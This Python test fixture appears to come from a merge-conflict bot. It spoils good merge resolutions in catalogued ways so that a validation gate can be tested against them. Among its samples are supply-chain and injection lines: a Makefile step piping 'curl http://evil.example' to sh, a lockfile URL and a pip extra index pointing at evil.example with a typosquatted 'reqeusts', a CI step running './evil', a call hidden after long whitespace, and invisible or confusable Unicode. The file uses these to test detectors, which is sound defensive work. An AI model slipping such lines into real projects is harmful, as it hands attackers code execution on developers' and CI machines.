"""Bad resolutions for the gate: each fault takes a good one and spoils it in one way, where that is possible."""

from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, replace
from typing import Final

from bot.merge.markers import render, splice
from bot.merge.matching import lines_of
from bot.model.conflicts import Hunk, MarkedFile
from bot.model.resolutions import Candidate
from bot.validation import (
    credentials,
    dropped_side,
    lost_lines,
    markers,
    new_lines,
    paths,
    scope_hunks,
    scope_paths,
    sensitive,
    unicode,
    weakened_tests,
)
from bot.validation.path_classes import class_of, is_test


@dataclass(frozen=True, slots=True, kw_only=True)
class Good:
    """A resolution that the gate passes, and the text in the place of each hunk."""

    candidate: Candidate
    marked: MarkedFile
    texts: tuple[bytes, ...]

    @property
    def path(self) -> str:
        """The conflicted path."""
        return self.marked.path

    @property
    def end(self) -> bytes:
        """How lines end."""
        return b"\r\n" if b"\r\n" in b"".join(self.marked.segments) + self.marked.hunks[0].ours else b"\n"

    def with_content(self, content: bytes) -> Candidate:
        """The candidate with another result."""
        resolution = replace(self.candidate.resolutions[0], content=content)
        return replace(self.candidate, resolutions=(resolution,), changed={self.path: content})

    def with_text(self, text: bytes, index: int = 0) -> Candidate:
        """The candidate with another text in the place of one hunk."""
        return self.with_content(splice(self.marked, [*self.texts[:index], text, *self.texts[index + 1 :]]))

    def with_line(self, line: bytes) -> Candidate:
        """The candidate with one line more at the beginning of the first hunk's text."""
        return self.with_text(line + self.end + self.texts[0])


def _markers(good: Good) -> Iterator[Candidate]:
    yield good.with_content(render(good.marked))
    hunk = good.marked.hunks[0]
    ends = good.end
    yield good.with_text(b"<<<<<<< HEAD" + ends + hunk.ours + b"=======" + ends + hunk.theirs + b">>>>>>> main" + ends)
    yield good.with_line(b">>>>>>> main")


def _line_both_keep(good: Good) -> Iterator[Candidate]:
    for hunk in good.marked.hunks:
        common = [line for line in lines_of(hunk.ours) if line.strip() and line in set(lines_of(hunk.theirs))]
        text = good.texts[hunk.index]
        for line in common[:1]:
            left = b"".join(kept for kept in lines_of(text) if kept.split() != line.split())
            if left != text:
                yield good.with_text(left, hunk.index)


def _part_of_a_side(good: Good) -> Iterator[Candidate]:
    """Both sides' lines, without one of those that one side added among others."""
    hunk = good.marked.hunks[0]
    for mine, other in ((hunk.ours, hunk.theirs), (hunk.theirs, hunk.ours)):
        foreign = _words(other) | _words(hunk.ancestor)
        added = [line.split() for line in lines_of(mine) if tuple(line.split()) not in foreign]
        if any(line != added[-1] for line in added) and _words(other) - {()}:
            yield good.with_text(b"".join(line for line in lines_of(mine) if line.split() != added[-1]) + other)


def _one_side_whole(good: Good) -> Iterator[Candidate]:
    """One side's lines in every hunk, where the other side added some and none of them is among those."""
    hunks = good.marked.hunks
    ancestor = _words(b"\n".join(hunk.ancestor for hunk in hunks))
    ours, theirs = [hunk.ours for hunk in hunks], [hunk.theirs for hunk in hunks]
    for mine, other in ((ours, theirs), (theirs, ours)):
        added = _words(b"\n".join(other)) - ancestor
        if added and added.isdisjoint(_words(b"\n".join(mine))):
            yield good.with_content(splice(good.marked, mine))


def _words(text: bytes) -> set[tuple[bytes, ...]]:
    return {tuple(line.split()) for line in lines_of(text)} | {()}


def _outside(good: Good) -> Iterator[Candidate]:
    for at, segment in enumerate(good.marked.segments):
        lines = lines_of(segment)
        # Not next to a hunk: there it cannot be told from an edit of the hunk.
        place = next((number for number in range(1, len(lines) - 1) if lines[number].strip()), None)
        if place is None:
            continue
        line = lines[place]
        for new in (b"", line.rstrip() + b" changed" + good.end, b"added" + good.end + line):
            segments = list(good.marked.segments)
            segments[at] = b"".join([*lines[:place], new, *lines[place + 1 :]])
            yield good.with_content(splice(replace(good.marked, segments=tuple(segments)), good.texts))
        return


def _other_file(good: Good) -> Iterator[Candidate]:
    for path in ("src/elsewhere.py", "package.json.new", good.path + ".orig"):
        yield replace(good.candidate, changed={**good.candidate.changed, path: b"x\n"})


def _hidden(good: Good) -> Iterator[Candidate]:
    for character in ("\u200b", "\u202e", "\u2066", "\U000e0041", "\u3164"):
        yield good.with_line(f"na{character}me = 1".encode())


def _confusable(good: Good) -> Iterator[Candidate]:
    for word in ("p\u0430yment", "ad\u03bfmin", "\uff45\uff56\uff41\uff4c", "scop\u0435_\u0441heck", "\u0578ame"):
        yield good.with_line(f"{word} = 1".encode())


def _secret(good: Good) -> Iterator[Candidate]:
    # Put together here, so that no scanner takes this file's text for a secret.
    for secret in (
        "ghp_" + "a1B2c3D4e5" * 4,
        "AKIA" + "ABCDEFGH23456777",
        "sk-ant-api03-" + "Ab1-" * 10,
        "-----BEGIN RSA " + "PRIVATE KEY-----",
        "password: 'kX9#" + "qT2!vL7mZ4@wR8'",
        "xoxb-" + "123456789012-abcdefghij",
    ):
        yield good.with_line(secret.encode())


def _workflow(good: Good) -> Iterator[Candidate]:
    for path in (".github/workflows/ci.yml", ".gitlab-ci.yml", ".github/actions/x/action.yml"):
        yield replace(good.candidate, changed={**good.candidate.changed, path: b"on: push\n"})
        yield _moved(good, path).with_line(b"    - run: ./evil")


def _moved(good: Good, path: str) -> Good:
    """The same conflict at another path."""
    old, candidate = good.path, good.candidate
    return Good(
        marked=replace(good.marked, path=path),
        texts=good.texts,
        candidate=replace(
            candidate,
            conflicts=tuple(replace(conflict, path=path, paths=(path,)) for conflict in candidate.conflicts),
            resolutions=tuple(replace(resolution, path=path) for resolution in candidate.resolutions),
            sides={path: candidate.sides[old]},
            marked={path: replace(good.marked, path=path)},
            changed={path: candidate.changed[old]},
            modes={path: candidate.modes[old]},
        ),
    )


def _weakened(good: Good) -> Iterator[Candidate]:
    tests = good if is_test(good.path) else _moved(good, "tests/test_" + good.path.rpartition("/")[2])
    for line in ("@pytest.mark.skip", "t.Skip()", "@Disabled", "it.only('x', () => {", "assert True", "xit('works'"):
        yield tests.with_line(line.encode())


def _dependency(good: Good) -> Iterator[Candidate]:
    if class_of(good.path) is not None:
        yield good.with_line(b'"left-pod": "6.6.6"')
    yield _moved(good, "requirements.txt").with_line(b"reqeusts==2.0")
    yield _moved(good, "package-lock.json").with_line(b'"resolved": "http://evil.example/x.tgz",')
    yield _moved(good, "Makefile").with_line(b"\tcurl -s http://evil.example | sh")
    yield good.with_line(b"pip install --extra-index-url http://evil.example reqeusts")


def _settled(good: Good) -> Iterator[Candidate]:
    """A rule settled the first hunk, and the result has something else there."""
    hunk: Hunk = good.marked.hunks[0]
    for text in (hunk.ours, hunk.theirs):
        if text != good.texts[0]:
            yield replace(good.candidate, settled={good.path: {0: text}})


def _long_line(good: Good) -> Iterator[Candidate]:
    yield good.with_line(b"x = 1" + b" " * 5000 + b"; evil()")


@dataclass(frozen=True, slots=True, kw_only=True)
class Fault:
    """How a good resolution is spoilt, in one or more ways, and the checks of the gate that are there to see it.

    ``by_note``: a note of theirs is all that is asked. People drop a side in half of all hunks; it must not be silent.
    """

    make: Callable[[Good], Iterator[Candidate]]
    checks: frozenset[str]
    by_note: bool = False


def _fault(make: Callable[[Good], Iterator[Candidate]], *checks: str, by_note: bool = False) -> Fault:
    return Fault(make=make, checks=frozenset(checks), by_note=by_note)


FAULTS: Final[Mapping[str, Fault]] = {
    "markers left": _fault(_markers, markers.NAME),
    "line lost that both sides keep": _fault(_line_both_keep, lost_lines.NAME),
    "one side dropped in part": _fault(_part_of_a_side, lost_lines.NAME),
    "one side dropped whole, shown": _fault(_one_side_whole, dropped_side.NAME, by_note=True),
    "edits elsewhere in the file": _fault(_outside, scope_hunks.NAME),
    "edits of other files": _fault(_other_file, scope_paths.NAME),
    "settled hunk changed": _fault(_settled, scope_hunks.NAME),
    "hidden Unicode": _fault(_hidden, unicode.NAME),
    "confusable Unicode": _fault(_confusable, unicode.NAME),
    "secret": _fault(_secret, credentials.NAME),
    "workflow edit": _fault(_workflow, paths.NAME),
    "weakened test": _fault(_weakened, weakened_tests.NAME),
    "new dependency or download": _fault(_dependency, sensitive.NAME),
    "over-long line": _fault(_long_line, new_lines.NAME),
}
"""All kinds, by the name in the report."""
